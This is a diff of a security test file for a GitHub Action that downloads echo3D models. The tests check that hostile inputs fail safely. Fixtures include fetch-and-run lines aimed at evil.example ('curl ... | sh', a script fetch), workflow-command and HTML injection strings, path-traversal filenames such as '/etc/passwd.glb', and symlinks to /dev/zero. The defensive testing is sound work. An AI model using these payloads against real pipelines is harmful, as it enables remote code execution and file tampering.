@@ -1,7 +1,8 @@
-// Attacks on the built action by those who can hand it hostile data: whoever can upload or rename
-// a model in the echo3D collection, whoever can open a pull request (the workspace and the
-// lockfile), and anything between the runner and echo3D. Each test tries the attack and shows that
-// it fails safely.
+// Attacks by those who can hand the action hostile data: whoever can upload or rename a model in
+// the echo3D collection, whoever can open a pull request (the workspace and the lockfile), and
+// anything between the runner and echo3D. Each test tries the attack on the engine in-process and
+// shows that it fails safely. That no workflow command from outside starts a line of the job log
+// is checked on the real step, in __tests__/e2e/.
 import { afterEach, describe, expect, it } from '@jest/globals'
 import { mkdir, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises'
 import path from 'node:path'
@@ -12,96 +13,65 @@ import {
   type ScriptedServer
 } from '../../doubles/scripted-server.ts'
 import { makeSample } from '../../emulator/samples.ts'
-import { emulatorInputs, type RunResult } from '../../harness/runner.ts'
+import { startEmulator, type Emulator } from '../../emulator/server.ts'
+import { checkWith, pullWith, trustCertificate } from '../../harness/engine.ts'
 import {
   LOCKFILE,
-  filesOutput,
+  listAssets,
   listFiles,
-  log,
-  pull,
-  readWorkspaceFile,
   scratchFolder,
   selfSignedCertificate,
   sha256,
   sharedEmulator
 } from '../support.ts'
 
-const INJECTED = [
-  '::error::injected',
-  '::warning::injected',
-  '::add-mask::injected',
-  '::stop-commands::injected'
-]
-
-const LEGACY = '##[set-output name=changed;]$(curl -s https://evil.example/x|sh)'
-
 const emulator = sharedEmulator({
   entries: [
-    { id: `legacy ${LEGACY}`, filename: 'm ##[add-mask]glb.glb', tags: ['legacy'], derived: [] },
-    {
-      id: `evil\n${INJECTED[0]}-entry`,
-      filename: `model.glb\n${INJECTED[1]}-extension<img src=x onerror=alert(1)>`,
-      originalStorageId: `storage\n${INJECTED[2]}-storage-id`,
-      tags: ['hostile'],
-      derived: []
-    },
     { id: 'plain', filename: 'model.glb', derived: [] },
     { id: 'lamp', filename: 'lamp.obj', material: 'lamp.mtl', textures: ['tex.png'], derived: [] },
     { id: 'lockfile-named', filename: 'scene.obj', textures: ['echo3d.lock.json'], derived: [] }
   ]
 })
 
-/** Lines of the log that start a workflow command an attacker wrote. */
-function injectedCommands(result: RunResult): string[] {
-  return log(result)
-    .split(/\r?\n|\r/)
-    .filter(line => INJECTED.some(command => line.startsWith(command)))
-}
+const readWorkspace = (workspace: string, file: string) => readFile(path.join(workspace, file))
 
-describe('workflow commands hidden in metadata and in the lockfile', () => {
-  it('never start a line of the log: entry IDs, storage IDs and extensions from echo3D', async () => {
-    // With debug logging, which adds a line per planned file.
-    const result = await pull(emulator(), { tags: 'hostile', formats: 'original' }, { debug: true })
-    expect(log(result)).toContain('injected')
-    expect(injectedCommands(result)).toEqual([])
-    expect(result.summary).toContain('&lt;img src=x onerror=alert(1)&gt;')
-    expect(result.summary).not.toContain('<img')
-  })
+describe('untrusted names from echo3D', () => {
+  let names: Emulator | undefined
+  afterEach(() => names?.close())
 
-  it("never reach the log in the runner's older ##[command] form, which counts anywhere in a line", async () => {
-    const result = await pull(emulator(), { tags: 'legacy', formats: 'original' }, { debug: true })
-    expect(log(result)).toContain('set-output name=changed')
-    expect(
-      log(result)
-        .split('\n')
-        .filter(line => line.includes('##['))
-    ).toEqual([])
-  })
-
-  it('never start a line of the log: paths in a lockfile', async () => {
-    const workspace = await scratchFolder('hostile-lockfile')
-    const folder = path.join(workspace, 'assets/echo3d')
-    await mkdir(folder, { recursive: true })
-    const victim = `victim\n${INJECTED[3]}.glb`
-    const bytes = Buffer.from('not selected any more')
-    await writeFile(path.join(folder, victim), bytes)
-    const record = {
-      path: `assets/echo3d/${victim}`,
-      entry: `e\n${INJECTED[0]}`,
-      format: 'glb',
-      storageId: 's1',
-      bytes: bytes.length,
-      sha256: sha256(bytes)
-    }
-    await writeFile(path.join(workspace, LOCKFILE), JSON.stringify({ version: 1, files: [record] }))
-
-    const inputs = { tags: 'hostile', formats: 'original', prune: 'true' }
-    const pruned = await pull(emulator(), inputs, { workspace })
-    expect(log(pruned)).toMatch(
-      /points outside the destination folder: assets\/echo3d\/victim\\u\{a\}::stop-commands::/
+  it('are neutralised: nothing is written outside path', async () => {
+    names = await startEmulator({
+      entries: [
+        {
+          id: 'climber',
+          filename: '../../../../escape.obj',
+          textures: ['../../../../tex.png'],
+          material: '/etc/evil.mtl'
+        },
+        { id: 'absolute', filename: '/etc/passwd.glb', derived: [] },
+        { id: 'weird', filename: 'con.fbx', derived: ['glb'] },
+        { id: 'unicode', filename: 'Lámpara 台灯 <v2>.glb', derived: [] }
+      ]
+    })
+    const run = await pullWith(names, {
+      inputs: {
+        entries: 'climber: original\nabsolute\nweird: glb\nunicode',
+        'file-name': '{name}.{ext}'
+      }
+    })
+    expect(run.report.failures).toEqual([])
+    expect(await listAssets(run.workspace)).toEqual(
+      [
+        'assets/echo3d/escape.obj',
+        'assets/echo3d/evil.mtl',
+        'assets/echo3d/tex.png',
+        'assets/echo3d/passwd.glb',
+        'assets/echo3d/_con.glb',
+        'assets/echo3d/Lámpara 台灯 _v2_.glb'
+      ].sort()
     )
-    expect(injectedCommands(pruned)).toEqual([])
-    expect(await readFile(path.join(folder, victim))).toEqual(bytes)
+    // The workspace's folder holds the workspace only: nothing climbed out beside it.
+    expect(await readdir(path.dirname(run.workspace))).toEqual(['workspace'])
   })
 })
 
@@ -125,9 +95,9 @@ describe('symbolic links in the workspace', () => {
     const { workspace, outside } = await workspaceWithOutside()
     await mkdir(path.join(workspace, 'assets'))
     await symlink(outside, path.join(workspace, 'assets/echo3d'))
-    const result = await pull(emulator(), { entries: 'plain' }, { workspace })
-    expect(result.code).toBe(1)
-    expect(log(result)).toMatch(/'assets\/echo3d' is a symbolic link or junction/)
+    await expect(pullWith(emulator(), { inputs: { entries: 'plain' }, workspace })).rejects.toThrow(
+      /'assets\/echo3d' is a symbolic link or junction/
+    )
     expect(await readdir(outside)).toEqual(['model.glb'])
     expect(await readFile(path.join(outside, 'model.glb'), 'utf8')).toBe('precious')
   })
@@ -136,10 +106,13 @@ describe('symbolic links in the workspace', () => {
     const { workspace, outside } = await workspaceWithOutside()
     await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
     await symlink(outside, path.join(workspace, 'assets/echo3d/plain'))
-    const inputs = { entries: 'plain', 'file-name': '{entry}/{name}.{ext}' }
-    const result = await pull(emulator(), inputs, { workspace })
-    expect(result.code).toBe(1)
-    expect(log(result)).toMatch(/'assets\/echo3d\/plain' is a symbolic link or junction/)
+    const run = await pullWith(emulator(), {
+      inputs: { entries: 'plain', 'file-name': '{entry}/{name}.{ext}' },
+      workspace
+    })
+    expect(run.report.failures[0].message).toMatch(
+      /'assets\/echo3d\/plain' is a symbolic link or junction/
+    )
     expect(await readFile(path.join(outside, 'model.glb'), 'utf8')).toBe('precious')
   })
 
@@ -157,119 +130,161 @@ describe('symbolic links in the workspace', () => {
       sha256: sha256(victim)
     }
     await writeFile(path.join(workspace, LOCKFILE), lockfileOf(record))
-    const result = await pull(emulator(), { entries: 'plain', prune: 'true' }, { workspace })
-    expect(log(result)).toMatch(
+    const run = await pullWith(emulator(), {
+      inputs: { entries: 'plain', prune: 'true' },
+      workspace
+    })
+    expect(run.log()).toMatch(
       /Not pruning assets\/echo3d\/sub\/model.glb: 'assets\/echo3d\/sub' is a symbolic link/
     )
+    expect(run.report.pruned).toEqual([])
     expect(await readFile(path.join(outside, 'model.glb'), 'utf8')).toBe('precious')
   })
 
   it('to a device are never read: a model linked to /dev/zero is replaced, in bounded time', async () => {
-    const first = await pull(emulator(), { entries: 'plain' })
-    const [file] = filesOutput(first)
+    const first = await pullWith(emulator(), { inputs: { entries: 'plain' } })
+    const [file] = first.report.files
     const modelPath = path.join(first.workspace, file.path)
     await rm(modelPath)
     await symlink('/dev/zero', modelPath)
     const started = Date.now()
-    const check = await pull(
-      emulator(),
-      { entries: 'plain', mode: 'check' },
-      { workspace: first.workspace }
-    )
-    expect(check.code).toBe(1)
-    expect(log(check)).toMatch(/model.glb: the file on disk cannot be checked: .*symbolic link/)
-    const again = await pull(emulator(), { entries: 'plain' }, { workspace: first.workspace })
-    expect(again.code).toBe(0)
+    const check = await checkWith(emulator(), {
+      inputs: { entries: 'plain' },
+      workspace: first.workspace
+    })
+    expect(check.report.stale).toEqual([
+      expect.objectContaining({
+        path: file.path,
+        reason: expect.stringMatching(/^the file on disk cannot be checked: .*symbolic link/)
+      })
+    ])
+    const again = await pullWith(emulator(), {
+      inputs: { entries: 'plain' },
+      workspace: first.workspace
+    })
+    expect(again.report.failures).toEqual([])
     expect(Date.now() - started).toBeLessThan(30_000)
-    expect(sha256(await readWorkspaceFile(again, file.path))).toBe(file.sha256)
+    expect(sha256(await readWorkspace(again.workspace, file.path))).toBe(file.sha256)
   })
 })
 
 describe('a forged file that a pull request slips in', () => {
   it('is not unchanged when its bytes are not the format, even with a lockfile that matches', async () => {
-    const first = await pull(emulator(), { entries: 'plain' })
-    const [file] = filesOutput(first)
+    const first = await pullWith(emulator(), { inputs: { entries: 'plain' } })
+    const [file] = first.report.files
     const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')
     await writeFile(path.join(first.workspace, file.path), script)
     const lock = lockfileOf({
       ...file,
       source: undefined,
+      durationMs: undefined,
       bytes: script.length,
       sha256: sha256(script)
     })
     await writeFile(path.join(first.workspace, LOCKFILE), lock)
 
-    const check = await pull(
-      emulator(),
-      { entries: 'plain', mode: 'check' },
-      { workspace: first.workspace }
-    )
-    expect(check.code).toBe(1)
-    expect(log(check)).toMatch(/model.glb: the file on disk fails its format check/)
-    const again = await pull(emulator(), { entries: 'plain' }, { workspace: first.workspace })
-    expect(filesOutput(again)[0].source).toBe('download')
-    expect(sha256(await readWorkspaceFile(again, file.path))).toBe(file.sha256)
+    const check = await checkWith(emulator(), {
+      inputs: { entries: 'plain' },
+      workspace: first.workspace
+    })
+    expect(check.report.stale.map(asset => asset.reason)).toEqual([
+      expect.stringMatching(/^the file on disk fails its format check/)
+    ])
+    const again = await pullWith(emulator(), {
+      inputs: { entries: 'plain' },
+      workspace: first.workspace
+    })
+    expect(again.report.files[0].source).toBe('download')
+    expect(sha256(await readWorkspace(again.workspace, file.path))).toBe(file.sha256)
   })
 })
 
 describe('a forged material and texture, with lockfile records to match', () => {
   it('are not unchanged: a script is neither a material nor a PNG', async () => {
-    const first = await pull(emulator(), { entries: 'lamp: original' })
+    const first = await pullWith(emulator(), { inputs: { entries: 'lamp: original' } })
     const script = Buffer.from('<script>fetch("https://evil.example")</script>\n')
-    const records = filesOutput(first).map(file => {
-      if (file.format === 'obj') return { ...file, source: undefined }
-      return { ...file, source: undefined, bytes: script.length, sha256: sha256(script) }
+    const records = first.report.files.map(file => {
+      const record = { ...file, source: undefined, durationMs: undefined }
+      if (file.format === 'obj') return record
+      return { ...record, bytes: script.length, sha256: sha256(script) }
     })
     for (const file of records.filter(record => record.format !== 'obj')) {
       await writeFile(path.join(first.workspace, file.path), script)
     }
     await writeFile(path.join(first.workspace, LOCKFILE), lockfileOf(...records))
-    const inputs = { entries: 'lamp: original', mode: 'check' }
-    const check = await pull(emulator(), inputs, { workspace: first.workspace })
-    expect(check.code).toBe(1)
-    expect(log(check)).toMatch(/lamp.mtl: the file on disk fails its format check/)
-    expect(log(check)).toMatch(/tex.png: the file on disk fails its format check/)
+    const check = await checkWith(emulator(), {
+      inputs: { entries: 'lamp: original' },
+      workspace: first.workspace
+    })
+    const reasons = Object.fromEntries(check.report.stale.map(asset => [asset.path, asset.reason]))
+    expect(reasons).toEqual({
+      'assets/echo3d/lamp.mtl': expect.stringMatching(/^the file on disk fails its format check/),
+      'assets/echo3d/tex.png': expect.stringMatching(/^the file on disk fails its format check/)
+    })
   })
 })
 
 describe('a forged model that is a valid GLB, with a lockfile record to match', () => {
   async function forged(): Promise<{ workspace: string; file: { path: string; sha256: string } }> {
-    const first = await pull(emulator(), { entries: 'plain' })
-    const [file] = filesOutput(first)
+    const first = await pullWith(emulator(), { inputs: { entries: 'plain' } })
+    const [file] = first.report.files
     const model = makeSample('glb', 'not the model echo3D serves')
     await writeFile(path.join(first.workspace, file.path), model)
-    const record = { ...file, source: undefined, bytes: model.length, sha256: sha256(model) }
+    const record = {
+      ...file,
+      source: undefined,
+      durationMs: undefined,
+      bytes: model.length,
+      sha256: sha256(model)
+    }
     await writeFile(path.join(first.workspace, LOCKFILE), lockfileOf(record))
     return { workspace: first.workspace, file }
   }
 
   it('passes a check by the lockfile, and fails one with verify: content', async () => {
     const { workspace } = await forged()
-    const byLockfile = await pull(emulator(), { entries: 'plain', mode: 'check' }, { workspace })
-    expect(byLockfile.code).toBe(0)
-    const inputs = { entries: 'plain', mode: 'check', verify: 'content' }
-    const byContent = await pull(emulator(), inputs, { workspace })
-    expect(byContent.code).toBe(1)
-    expect(log(byContent)).toMatch(/model.glb: the file on disk is not what echo3D serves/)
+    const byLockfile = await checkWith(emulator(), { inputs: { entries: 'plain' }, workspace })
+    expect(byLockfile.report.stale).toEqual([])
+    const byContent = await checkWith(emulator(), {
+      inputs: { entries: 'plain', verify: 'content' },
+      workspace
+    })
+    expect(byContent.report.stale.map(asset => asset.reason)).toEqual([
+      'the file on disk is not what echo3D serves for its storage ID'
+    ])
     expect(await listFiles(workspace)).toEqual([LOCKFILE, 'assets/echo3d/model.glb'].sort())
   })
 
   it('is replaced by a pull with verify: content, which trusts neither lockfile nor cache', async () => {
     const { workspace, file } = await forged()
-    const result = await pull(emulator(), { entries: 'plain', verify: 'content' }, { workspace })
-    expect(filesOutput(result)[0].source).toBe('download')
-    expect(sha256(await readWorkspaceFile(result, file.path))).toBe(file.sha256)
+    const lookedUp: string[] = []
+    const cache = {
+      find: (storageId: string) => Promise.resolve(void lookedUp.push(storageId)),
+      store: () => Promise.resolve()
+    }
+    const run = await pullWith(emulator(), {
+      inputs: { entries: 'plain', verify: 'content' },
+      workspace,
+      cache
+    })
+    expect(run.report.files[0].source).toBe('download')
+    expect(lookedUp).toEqual([])
+    expect(sha256(await readWorkspace(workspace, file.path))).toBe(file.sha256)
   })
 })
 
 describe("a name from echo3D that is the lockfile's", () => {
   it('fails that asset only, and the lockfile stays a lockfile', async () => {
-    const result = await pull(emulator(), { entries: 'plain\nlockfile-named: original' })
-    expect(result.code).toBe(1)
-    expect(log(result)).toMatch(
-      /companion 'echo3d.lock.json'\): its path, 'echo3d.lock.json', is the lockfile's/
-    )
-    const lock = JSON.parse(await readFile(path.join(result.workspace, LOCKFILE), 'utf8')) as {
+    const run = await pullWith(emulator(), {
+      inputs: { entries: 'plain\nlockfile-named: original' }
+    })
+    expect(run.report.failures).toEqual([
+      {
+        label: expect.stringContaining("companion 'echo3d.lock.json'"),
+        message: expect.stringMatching(/its path, 'echo3d.lock.json', is the lockfile's/)
+      }
+    ])
+    const lock = JSON.parse(await readWorkspace(run.workspace, LOCKFILE).then(String)) as {
       files: { path: string }[]
     }
     expect(lock.files.map(file => file.path)).toEqual([
@@ -284,9 +299,9 @@ describe('a lockfile from a pull request', () => {
     const workspace = await scratchFolder('hostile-large-lockfile')
     await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
     await writeFile(path.join(workspace, LOCKFILE), Buffer.alloc(17 * 1024 * 1024, 0x20))
-    const result = await pull(emulator(), { entries: 'plain' }, { workspace })
-    expect(result.code).toBe(0)
-    expect(log(result)).toMatch(/is corrupt or was edited by hand \(it is larger than 16\.0 MiB\)/)
+    const run = await pullWith(emulator(), { inputs: { entries: 'plain' }, workspace })
+    expect(run.report.failures).toEqual([])
+    expect(run.log()).toMatch(/is corrupt or was edited by hand \(it is larger than 16\.0 MiB\)/)
   })
 
   it.each([
@@ -305,10 +320,14 @@ describe('a lockfile from a pull request', () => {
       sha256: 'a'.repeat(64)
     }
     await writeFile(path.join(workspace, LOCKFILE), lockfileOf(record))
-    const result = await pull(emulator(), { entries: 'plain', prune: 'true' }, { workspace })
-    expect(log(result)).toMatch(
+    const run = await pullWith(emulator(), {
+      inputs: { entries: 'plain', prune: 'true' },
+      workspace
+    })
+    expect(run.log()).toMatch(
       /The lockfile assets\/echo3d\/echo3d.lock.json is corrupt or was edited by hand \(entry 1 points outside the destination folder/
     )
+    expect(run.report.pruned).toEqual([])
     expect(await listFiles(workspace)).toEqual([
       'assets/echo3d/echo3d.lock.json',
       'assets/echo3d/model.glb'
@@ -345,7 +364,7 @@ async function hostileEcho3d(
     if (url.searchParams.has('file')) file(response)
     else metadata(response)
   })
-  return { ...emulatorInputs(emulator()), 'api-url': server.url, entries: 'hostile', retries: '1' }
+  return { 'api-url': server.url, entries: 'hostile', retries: '1' }
 }
 
 describe('bodies without end', () => {
@@ -359,11 +378,12 @@ describe('bodies without end', () => {
       }
     )
     const started = Date.now()
-    const result = await pull(emulator(), inputs)
-    expect(result.code).toBe(1)
-    expect(log(result)).toMatch(/the body ran past the 72 bytes its GLB header declares/)
+    const run = await pullWith(emulator(), { inputs })
+    expect(run.report.failures[0].message).toMatch(
+      /the body ran past the 72 bytes its GLB header declares/
+    )
     expect(Date.now() - started).toBeLessThan(20_000)
-    expect(await listFiles(result.workspace)).toEqual([])
+    expect(await listFiles(run.workspace)).toEqual([])
   })
 
   it('a file larger than max-file-size fails at the limit, without a retry', async () => {
@@ -374,15 +394,15 @@ describe('bodies without end', () => {
         sendForever(response, Buffer.alloc(64 * 1024, 1))
       }
     )
-    const result = await pull(emulator(), {
-      ...inputs,
-      formats: 'original',
-      'max-file-size': '1MiB'
+    const run = await pullWith(emulator(), {
+      inputs: { ...inputs, formats: 'original', 'max-file-size': '1MiB' }
     })
-    expect(result.code).toBe(1)
-    expect(log(result)).toMatch(/the file is larger than `max-file-size` \(1\.0 MiB\)/)
+    expect(run.report.failures[0].message).toMatch(
+      /the file is larger than `max-file-size` \(1\.0 MiB\)/
+    )
     expect(server?.requests.filter(request => request.includes('file='))).toHaveLength(1)
-    expect(await listFiles(result.workspace)).toEqual([])
+    expect(run.clock.waits).toEqual([])
+    expect(await listFiles(run.workspace)).toEqual([])
   })
 
   it('a declared Content-Length over max-file-size fails before a byte is written', async () => {
@@ -393,9 +413,9 @@ describe('bodies without end', () => {
         response.write(glbHeader(1000))
       }
     )
-    const result = await pull(emulator(), { ...inputs, 'max-file-size': '1MiB' })
-    expect(log(result)).toMatch(/the file is larger than `max-file-size`/)
-    expect(await listFiles(result.workspace)).toEqual([])
+    const run = await pullWith(emulator(), { inputs: { ...inputs, 'max-file-size': '1MiB' } })
+    expect(run.report.failures[0].message).toMatch(/the file is larger than `max-file-size`/)
+    expect(await listFiles(run.workspace)).toEqual([])
   })
 
   it('a metadata answer that never ends is refused past its limit', async () => {
@@ -407,15 +427,16 @@ describe('bodies without end', () => {
       },
       response => response.end()
     )
-    const result = await pull(emulator(), inputs)
-    expect(result.code).toBe(1)
-    expect(log(result)).toMatch(/is larger than 32\.0 MiB, more than echo3D sends for it/)
+    await expect(pullWith(emulator(), { inputs })).rejects.toThrow(
+      /is larger than 32\.0 MiB, more than echo3D sends for it/
+    )
   })
 })
 
 describe('a redirect', () => {
   it('from https to plain http is never followed: the download is not sent in clear text', async () => {
     const tls = await selfSignedCertificate()
+    const distrust = trustCertificate(tls.cert)
     const plain = await startScriptedServer((_request, response) => response.end('model'))
     try {
       server = await startScriptedServer((request, response) => {
@@ -424,12 +445,15 @@ describe('a redirect', () => {
         response.writeHead(302, { location: `${plain.url}/files/m` })
         response.end()
       }, tls)
-      const inputs = { ...emulatorInputs(emulator()), 'api-url': server.url, entries: 'hostile' }
-      const result = await pull(emulator(), inputs, { env: { NODE_EXTRA_CA_CERTS: tls.caFile } })
-      expect(result.code).toBe(1)
-      expect(log(result)).toMatch(/redirected the download of storage ID m from https to http/)
+      const run = await pullWith(emulator(), {
+        inputs: { 'api-url': server.url, entries: 'hostile' }
+      })
+      expect(run.report.failures[0].message).toMatch(
+        /redirected the download of storage ID m from https to http/
+      )
       expect(plain.requests).toEqual([])
     } finally {
+      distrust()
       await plain.close()
     }
   })
